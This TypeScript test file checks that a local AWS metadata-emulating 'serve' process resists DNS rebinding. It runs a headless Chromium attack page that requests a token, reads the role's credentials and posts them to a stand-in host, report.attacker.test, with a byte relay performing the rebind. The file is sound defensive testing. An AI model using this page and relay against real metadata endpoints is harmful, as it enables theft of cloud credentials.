/**
 * `serve` against a web page (DNS rebinding): a page on `rebind.attacker.test` whose name is rebound to the
 * loopback address reaches the IMDS endpoint as a same-origin request — the browser sends `Host:
 * rebind.attacker.test:PORT`, `Origin` and `Sec-Fetch-*` headers — and used to PUT a token and read the role's
 * credentials. serve must answer only requests whose Host is a loopback IP literal, `localhost` or its bind
 * address, with its port, and refuse every request that carries browser-only headers (Origin, Sec-Fetch-Site,
 * -Dest, -User; Sec-Fetch-Mode alone is what Node's fetch() sends).
 *
 * Played for real: a real `serve` process; hostile requests through node:http; and Debian's Chromium (headless)
 * loading the attacker's page. The rebinding itself is done by the "attacker's server": it listens on
 * 127.0.0.2:PORT (Chromium resolves rebind.attacker.test there through --host-resolver-rules), serves the page
 * once, then relays every later connection byte for byte to serve at 127.0.0.1:PORT — exactly what the browser's
 * connections carry after the name resolves to the loopback address. The page reports what it could read to a
 * second server (report.attacker.test).
 */
import { spawn, type ChildProcess } from "node:child_process";
import { createServer as createHttpServer, request, type Server as HttpServer } from "node:http";
import { connect, createServer, type Server, type Socket } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fromInstanceMetadata } from "@aws-sdk/credential-providers";
import { startLocalEndpoint, type LocalEndpoint } from "../src/local-endpoint/server.js";
import { createCa, issueLeaf, makeTempDir, type IssuedCertificate } from "../test/helpers/pki.js";
import { startServe, type ServeProcess } from "./helpers/serve-process.js";

const CHROMIUM = "/usr/bin/chromium";
const ROLE = "RebindRole";
const { dir, cleanup } = makeTempDir("raa-rebinding-");
let endpoint: LocalEndpoint;
let leaf: IssuedCertificate;
let serve: ServeProcess;
const closers: (() => unknown)[] = [];

const ENV = { ...process.env, NODE_EXTRA_CA_CERTS: "", XDG_RUNTIME_DIR: "/nonexistent", HOME: dir };
const flags = () => [
  "--certificate", leaf.certPath, "--private-key", leaf.keyPath,
  "--trust-anchor-arn", "arn:aws:rolesanywhere:us-east-1:000000000000:trust-anchor/rebind",
  "--profile-arn", "arn:aws:rolesanywhere:us-east-1:000000000000:profile/rebind",
  "--role-arn", `arn:aws:iam::000000000000:role/${ROLE}`,
  "--endpoint", endpoint.url, "--timeout", "5", "--max-attempts", "1",
];

/** One request to serve at 127.0.0.1:port, with exactly the Host and other headers given. */
function raw(port: number, method: string, path: string, headers: Record<string, string>): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = request({ host: "127.0.0.1", port, method, path, headers, setHost: false }, (res) => {
      let body = "";
      res.on("data", (d: Buffer) => (body += d.toString()));
      res.on("end", () => resolve({ status: res.statusCode!, body }));
    });
    req.on("error", reject);
    req.end();
  });
}

beforeAll(async () => {
  const ca = createCa(join(dir, "ca"), { name: "Rebinding Test CA" });
  leaf = issueLeaf(ca, join(dir, "leaf"), { name: "rebinding-device" });
  endpoint = await startLocalEndpoint({ trustAnchors: [ca.certPath], port: 0, region: "us-east-1" });
  serve = await startServe(flags(), ENV);
});
afterAll(async () => {
  for (const close of closers.reverse()) await close();
  serve?.stop();
  await endpoint?.close();
  cleanup();
});

describe("serve and hostile Host / Origin headers (node:http, real serve process)", () => {
  const token = async (headers: Record<string, string>) => raw(serve.port, "PUT", "/latest/api/token", { "x-aws-ec2-metadata-token-ttl-seconds": "60", ...headers });

  it("refuses a token to a rebound name, with or without browser headers", async () => {
    for (const host of [`rebind.attacker.test:${serve.port}`, `attacker.test`, `localhost.attacker.test:${serve.port}`, `127.0.0.1.nip.io:${serve.port}`]) {
      const r = await token({ host });
      expect({ host, status: r.status }).toEqual({ host, status: 403 });
      expect(r.body).toMatch(/Host/);
    }
  });

  it("refuses the right name with another port, and a missing or malformed Host", async () => {
    for (const host of [`127.0.0.1:${serve.port + 1}`, "127.0.0.1", `localhost:80`, "", `[::1`, `127.0.0.1:${serve.port}:1`]) {
      expect({ host, status: (await token({ host })).status }).toEqual({ host, status: 403 });
    }
  });

  it("refuses requests carrying Origin or Sec-Fetch-* even with a good Host", async () => {
    const host = `127.0.0.1:${serve.port}`;
    const extras: Record<string, string>[] = [{ origin: "http://rebind.attacker.test" }, { origin: "null" }, { "sec-fetch-site": "same-origin" }, { "sec-fetch-dest": "empty" }, { "sec-fetch-user": "?1" }];
    for (const extra of extras) {
      const r = await token({ host, ...extra });
      expect({ extra, status: r.status }).toEqual({ extra, status: 403 });
      expect(r.body).toMatch(/browser/);
    }
    // …on the credentials path too (a token obtained otherwise does not help a page)
    const good = (await token({ host })).body;
    const r = await raw(serve.port, "GET", `/latest/meta-data/iam/security-credentials/${ROLE}`, { host, "x-aws-ec2-metadata-token": good, origin: "http://rebind.attacker.test" });
    expect(r.status).toBe(403);
    expect(r.body).not.toMatch(/SecretAccessKey/);
  });

  it("control: loopback literals and localhost with the port, and the AWS SDK, get credentials", async () => {
    for (const host of [`127.0.0.1:${serve.port}`, `localhost:${serve.port}`, `LOCALHOST:${serve.port}`, `[::1]:${serve.port}`, `127.1.2.3:${serve.port}`]) {
      const t = await token({ host });
      expect({ host, status: t.status }).toEqual({ host, status: 200 });
      const c = await raw(serve.port, "GET", `/latest/meta-data/iam/security-credentials/${ROLE}`, { host, "x-aws-ec2-metadata-token": t.body });
      expect(c.status).toBe(200);
      expect(JSON.parse(c.body).Code).toBe("Success");
    }
    // Node's own fetch() (undici) sends `Sec-Fetch-Mode: cors` and nothing else a browser would: served.
    const viaFetch = await fetch(`http://127.0.0.1:${serve.port}/latest/api/token`, { method: "PUT", headers: { "x-aws-ec2-metadata-token-ttl-seconds": "60" } });
    expect(viaFetch.status).toBe(200);
    process.env["AWS_EC2_METADATA_SERVICE_ENDPOINT"] = `http://127.0.0.1:${serve.port}/`;
    try {
      expect((await fromInstanceMetadata({ timeout: 5000 })()).accessKeyId).toMatch(/^ASIA/);
    } finally {
      delete process.env["AWS_EC2_METADATA_SERVICE_ENDPOINT"];
    }
  });
});

describe("serve and a DNS-rebinding web page in Chromium (scripts/install-system-deps.sh installs chromium)", () => {
  it("the page cannot obtain a token or credentials", async () => {
    // The report server: the page posts what it read here (a simple no-cors POST needs no preflight).
    const reports: string[] = [];
    const reportServer: HttpServer = createHttpServer((req, res) => {
      let body = "";
      req.on("data", (d: Buffer) => (body += d.toString()));
      req.on("end", () => {
        if (req.url === "/report") reports.push(body);
        res.writeHead(204).end();
      });
    });
    await new Promise<void>((r) => reportServer.listen(0, "127.0.0.1", r));
    closers.push(() => new Promise((r) => reportServer.close(r)));
    const reportPort = (reportServer.address() as { port: number }).port;

    const page = `<!doctype html><title>cat pictures</title><script>
      const out = {};
      (async () => {
        await new Promise((r) => setTimeout(r, 300)); // "after the rebinding"
        try {
          const t = await fetch("/latest/api/token", { method: "PUT", headers: { "x-aws-ec2-metadata-token-ttl-seconds": "60" } });
          out.tokenStatus = t.status;
          const token = await t.text();
          const list = await fetch("/latest/meta-data/iam/security-credentials/", { headers: { "x-aws-ec2-metadata-token": token } });
          out.listStatus = list.status;
          const role = await list.text();
          const c = await fetch("/latest/meta-data/iam/security-credentials/" + encodeURIComponent(role), { headers: { "x-aws-ec2-metadata-token": token } });
          out.credentialsStatus = c.status;
          out.credentials = await c.text();
        } catch (e) { out.error = String(e); }
        await fetch("http://report.attacker.test:${reportPort}/report", { method: "POST", mode: "no-cors", body: JSON.stringify(out) });
      })();
    </script>`;

    // The attacker's server on 127.0.0.2:<serve's port>: the page once, then a byte relay to serve.
    let relaying = false;
    const relayed: string[] = [];
    const sockets = new Set<Socket>();
    const attacker: Server = createServer((socket) => {
      sockets.add(socket);
      socket.on("close", () => sockets.delete(socket));
      // Decided at each connection's first bytes, not when it is accepted: Chromium opens a spare connection before
      // its first request is sent, and that one carries the page's later requests.
      socket.once("data", (first: Buffer) => {
        if (!relaying) {
          relaying = true; // rebound from now on
          socket.end(`HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: ${Buffer.byteLength(page)}\r\nconnection: close\r\n\r\n${page}`);
          return;
        }
        const upstream = connect(serve.port, "127.0.0.1");
        // Every byte, not just the first chunk: the browser may send /favicon.ico first on the same connection.
        relayed.push(first.toString("latin1"));
        upstream.write(first);
        socket.on("data", (d: Buffer) => relayed.push(d.toString("latin1")));
        socket.pipe(upstream).pipe(socket);
        upstream.on("error", () => socket.destroy());
        socket.on("error", () => upstream.destroy());
      });
    });
    await new Promise<void>((r) => attacker.listen(serve.port, "127.0.0.2", r));
    closers.push(() => {
      for (const s of sockets) s.destroy();
      return new Promise((r) => attacker.close(r));
    });

    const browser: ChildProcess = spawn(
      CHROMIUM,
      [
        "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", `--user-data-dir=${join(dir, "chromium-profile")}`,
        "--host-resolver-rules=MAP rebind.attacker.test 127.0.0.2, MAP report.attacker.test 127.0.0.1",
        `http://rebind.attacker.test:${serve.port}/`,
      ],
      { stdio: "ignore", detached: true },
    );
    closers.push(() => {
      try {
        process.kill(-browser.pid!, "SIGKILL"); // the browser's own process group
      } catch {
        /* already gone */
      }
    });
    const deadline = Date.now() + 60_000;
    while (reports.length === 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
    expect(reports).toHaveLength(1);
    const out = JSON.parse(reports[0]!) as { tokenStatus?: number; credentialsStatus?: number; credentials?: string; error?: string };
    // What reached serve really was the browser's rebound request.
    expect(relayed.join("\n")).toMatch(new RegExp(`^PUT /latest/api/token HTTP/1.1\\r\\n[^]*host: rebind\\.attacker\\.test:${serve.port}\\r\\n`, "im"));
    const leaked = /SecretAccessKey|AccessKeyId/.test(out.credentials ?? "");
    expect({ error: out.error, tokenStatus: out.tokenStatus, credentialsStatus: out.credentialsStatus, leaked }).toEqual({
      error: undefined,
      tokenStatus: 403,
      credentialsStatus: 403,
      leaked: false,
    });
  });
});
